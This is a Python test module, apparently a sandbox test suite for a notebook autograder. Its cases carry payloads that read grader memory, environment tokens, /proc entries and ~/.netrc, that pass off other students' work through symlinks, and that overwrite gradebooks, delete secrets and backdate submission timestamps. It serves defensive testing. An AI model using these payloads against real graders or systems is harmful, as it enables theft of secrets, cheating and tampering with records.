"""Points and secrets by looking around: memory, /proc, descriptors, files; and by writing where it counts."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

from tests.hostile.case import ATTACKER, NEIGHBOUR, Case, put

_IN_CALL = """
    def conv_output_size(*args, **kwargs):
        {look}
        return 1
    """

MEMORY = (
    Case(
        id="frames above the call",
        threat="5 frames",
        tries="The expected value is a local of some caller.",
        code="""
            def conv_output_size(*args, **kwargs):
                frame = sys._getframe()
                while frame is not None:
                    for space in (frame.f_locals, frame.f_globals):
                        tell(repr(space)[:200000])
                        for name in ("want", "expected", "answer", "oracle"):
                            if name in space:
                                boast("found " + name)
                                return space[name]
                    frame = frame.f_back
                return 1
            """,
    ),
    Case(
        id="a trace function that waits for the expected value",
        threat="5 frames",
        tries="sys.settrace and sys.setprofile see every frame that comes later.",
        before=(
            """
            import sys
            def spy(frame, event, arg):
                for name in ("want", "expected", "secret", "seed"):
                    if name in frame.f_locals and "hidden" in frame.f_code.co_filename:
                        print("HA" + "RM-DONE: saw", name)
                return spy
            sys.settrace(spy)
            sys.setprofile(spy)
            """,
        ),
        code="def conv_output_size(*args, **kwargs): return 1",
    ),
    Case(
        id="all objects of the collector",
        threat="5 gc",
        tries="Tests, seeds and expected values are somewhere in memory.",
        code="""
            def conv_output_size(*args, **kwargs):
                gc.unfreeze() if hasattr(gc, "unfreeze") else None
                for entry in gc.get_objects():
                    kind = type(entry).__name__
                    if kind in ("DeclaredTest", "HiddenTests", "GradingPlan", "Question", "Course"):
                        boast("found a " + kind)
                    if type(entry) in (dict, list, tuple) and len(entry) < 5000:
                        try:
                            tell(repr(entry)[:20000])
                        except RuntimeError as error:
                            if "CANARY" in str(error):
                                raise
                        except Exception:
                            pass
                return 1
            """,
    ),
    Case(
        id="the memory of this process, page by page",
        threat="5 /proc/self",
        tries="What the grader knew was copied by fork.",
        code=_IN_CALL.format(
            look="""
        for line in read("/proc/self/maps").decode().splitlines():
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and end - start < 1 << 26:
                try:
                    tell(ctypes.string_at(start, end - start))
                except RuntimeError:
                    raise
                except BaseException:
                    pass"""
        ),
    ),
    Case(
        id="the command lines and folders of processes",
        threat="5 /proc/self",
        tries="/proc of this process, its parents and the grader show paths, environment and open files.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for pid in ("self", os.getppid(), "@FORKSERVER@", "@GRADER@", "@PEER@"):
            for name in ("environ", "cmdline", "cwd/course/secret", "root/@SECRET@", "mountinfo", "stack"):
                tell(read(f"/proc/{pid}/{name}"))
            for fd in glob.glob(f"/proc/{pid}/fd/*"):
                tell(os.readlink(fd), read(fd))"""
        ),
    ),
    Case(
        id="the memory of the grader",
        threat="5 /proc/self",
        tries="/proc/<grader>/mem can be read by whoever has the same user.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for pid in ("@GRADER@", "@FORKSERVER@"):
            for line in read(f"/proc/{pid}/maps").decode().splitlines():
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "heap" in line:
                    memory = open(f"/proc/{pid}/mem", "rb")
                    memory.seek(start)
                    tell(memory.read(min(end - start, 1 << 24)))
                    boast("read the memory of " + pid)"""
        ),
    ),
    Case(
        id="the environment",
        threat="5 environment",
        tries="Tokens and paths of the grader are inherited.",
        code="""
            import subprocess
            def conv_output_size(*args, **kwargs):
                text = ctypes.POINTER(ctypes.c_char_p)
                environ = ctypes.cast(ctypes.CDLL(None).environ, text)
                index = 0
                while environ[index]:
                    tell(environ[index])
                    index += 1
                tell(repr(dict(os.environ)), os.getcwd(), repr(sys.argv), repr(sys.path))
                if any(word in repr(dict(os.environ)) for word in ("COURSE_TOKEN", "PYTEST")):
                    boast("the environment of the grader is here")
                return 1
            """,
    ),
    Case(
        id="open descriptors",
        threat="5 descriptors",
        tries="The grader's files, terminal and sockets were inherited.",
        code="""
            def conv_output_size(*args, **kwargs):
                for fd in range(1024):
                    try:
                        status = os.fstat(fd)
                    except OSError:
                        continue
                    if status.st_mode >> 12 == 0o10:
                        boast("a file is open")
                        tell(os.pread(fd, 1 << 20, 0))
                    if status.st_mode >> 12 == 0o4:
                        boast("a folder is open")
                return 1
            """,
    ),
)


def _link_to(target: str) -> object:
    def files(folder: Path, data: bytes) -> None:
        place = folder / ATTACKER / "a1_convolution"
        place.mkdir(parents=True)
        (place / "sliding_windows.ipynb").symlink_to(os.path.relpath(folder.parent / target, place))

    return files


def _folder_link(folder: Path, data: bytes) -> None:
    (folder / ATTACKER).symlink_to(folder / NEIGHBOUR)


def _hard_link(folder: Path, data: bytes) -> None:
    place = folder / ATTACKER / "a1_convolution"
    put(place / "sliding_windows.ipynb", data)
    (place / "secret").symlink_to(folder.parent / "secret")
    (place / "feedback").symlink_to(folder.parent)


def _for_the_neighbour(folder: Path, data: bytes) -> None:
    put(folder / ATTACKER / "sliding_windows.ipynb", data)
    put(folder / f"{NEIGHBOUR}.ipynb", data)
    put(folder / f"{NEIGHBOUR}_sliding_windows.ipynb", data)
    put(folder / f"{NEIGHBOUR}.zip", b"PK\x05\x06" + bytes(18))


READING = (
    Case(
        id="the hidden tests on the disk",
        threat="6 hidden tests",
        tries="They lie beside the grader.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for path in ("@TESTS@", "@REAL_TESTS@", "@ROOT@/solutions/a1_convolution/sliding_windows.py"):
            tell(read(path))
            if read(path):
                boast("read " + os.path.basename(path))"""
        ),
    ),
    Case(
        id="the hidden tests as a package",
        threat="6 hidden tests",
        tries="`import autograder.hidden_tests` works where the grader is installed.",
        level="landlock",
        code="""
            import importlib
            sys.path += ["@ROOT@", "@COURSE@", *glob.glob("/**/site-packages", recursive=False)]
            def conv_output_size(*args, **kwargs):
                for name in ("oracles", "steps", "library", "test_correlation", "alternatives", "mistakes"):
                    try:
                        importlib.import_module(f"autograder.hidden_tests.a1_convolution.sliding_windows.{name}")
                    except ImportError:
                        continue
                    boast("imported " + name)
                return 1
            """,
    ),
    Case(
        id="the gradebook, the journal and the secret on the disk",
        threat="6 gradebook",
        tries="They lie where nbgrader keeps them.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for path in ("@GRADEBOOK@", "@JOURNAL@", "@SECRET@", "@HOME@/.netrc", "../../course/secret"):
            tell(read(path))"""
        ),
    ),
    Case(
        id="files are sought by walking the disk",
        threat="6 gradebook",
        tries="Everything below the root is listed and read.",
        level="landlock",
        code="""
            def conv_output_size(*args, **kwargs):
                for top in ("@COURSE@", "@HOME@", os.path.dirname("@COURSE@"), "..", "../..", "/tmp", "/root"):
                    for folder, _, names in os.walk(top):
                        for name in names[:50]:
                            path = os.path.join(folder, name)
                            if os.path.isfile(path) and not path.endswith("loot"):
                                tell(read(path))
                return 1
            """,
    ),
    Case(
        id="the work of another student on the disk",
        threat="6 other students",
        tries="Submissions lie side by side, scratch folders too.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        tell(read("@NORA@"), read("@PEER_FOLDER@/notes"))
        for path in glob.glob("../*/*"):
            if "loot" not in path:
                tell(read(path))"""
        ),
    ),
    Case(
        id="a submission that is a link to another's",
        threat="6 symlinks",
        tries="The neighbour's answers are graded as one's own.",
        files=_link_to("submitted/nora/a1_convolution/sliding_windows.ipynb"),  # type: ignore[arg-type]
    ),
    Case(
        id="a submission that is a link to the gradebook",
        threat="6 symlinks",
        tries="Its beginning is quoted in a message, or the file is copied into feedback.",
        files=_link_to("gradebook.db"),  # type: ignore[arg-type]
    ),
    Case(
        id="a student's folder that is a link to another's",
        threat="6 symlinks",
        tries="All of the neighbour's work is one's own.",
        files=_folder_link,
    ),
    Case(
        id="files by the name of a neighbour",
        threat="6 other students",
        tries="What is called like another student is graded in the place of that student's work.",
        files=_for_the_neighbour,
    ),
    Case(
        id="links beside the notebook",
        threat="6 symlinks",
        tries="What lies beside the notebook is copied into feedback.",
        files=_hard_link,
    ),
    Case(
        id="a link made while running, to be read later",
        threat="6 symlinks",
        tries="The grader reads the scratch folder and follows links.",
        code="""
            for name, target in (("notes", "@SECRET@"), ("output", "@GRADEBOOK@"), ("all", "@WORK@")):
                os.symlink(target, name)

            def conv_output_size(*args, **kwargs):
                tell(read("notes"), read("output"), read("all/secret"))
                return 1
            """,
        level="landlock",
    ),
)

WRITING = (
    Case(
        id="the gradebook is written",
        threat="7 gradebook",
        tries="Points are put where they are kept.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        import sqlite3
        for path in ("@GRADEBOOK@", "gradebook.db", "../gradebook.db", "../../course/course/gradebook.db"):
            try:
                open(path, "a").write("52 points")
                sqlite3.connect(path).execute("update grade set auto_score = 52")
            except Exception:
                pass"""
        ),
    ),
    Case(
        id="result files are written",
        threat="7 result file",
        tries="Feedback, CSV and results lie where graders look for them.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for path in ("@WORK@/feedback/mallory/feedback.html", "@WORK@/exports/a1_convolution.csv",
                     "@WORK@/results.json", "results.json", "feedback.json", "/tmp/results-@MARK@", "~/@MARK@"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
            except OSError:
                pass
            try:
                open(os.path.expanduser(path), "w").write('{"score": 52, "points": 52}')
            except OSError:
                pass"""
        ),
    ),
    Case(
        id="the journal is written",
        threat="7 journal",
        tries="A result that was already there isn't graded again.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for action in (lambda: open("@JOURNAL@", "a").write("{}"), lambda: os.truncate("@JOURNAL@", 0),
                       lambda: os.rename("@JOURNAL@", "x"), lambda: os.unlink("@SECRET@"),
                       lambda: os.chmod("@JOURNAL@", 0), lambda: os.utime("@JOURNAL@", (1, 1))):
            try:
                action()
            except OSError:
                pass"""
        ),
    ),
    Case(
        id="the time of submission is written",
        threat="7 timestamp",
        tries="An earlier date, in one's own folder and in the graded one.",
        level="landlock",
        code=_IN_CALL.format(
            look="""
        for path in ("@TIMESTAMP@", "@WORK@/submitted/mallory/a1_convolution/timestamp.txt", "timestamp.txt"):
            try:
                open(path, "w").write("1999-01-01 00:00:00 UTC")
            except OSError:
                pass"""
        ),
    ),
)


def _dated_zip(folder: Path, data: bytes) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for place in ("", "a1_convolution/", f"{ATTACKER}/a1_convolution/"):
            archive.writestr(f"{place}timestamp.txt", "1999-01-01 00:00:00 UTC")
        archive.writestr("a1_convolution/sliding_windows.ipynb", data)
    put(folder / f"{ATTACKER}.zip", buffer.getvalue())


DATED = (
    Case(
        id="a time of submission in the archive",
        threat="7 timestamp",
        tries="nbgrader takes a timestamp.txt that was handed in for its own.",
        honest=("correlate1d",),
        files=_dated_zip,
    ),
)

CASES = (*DATED, *MEMORY, *READING, *WRITING)
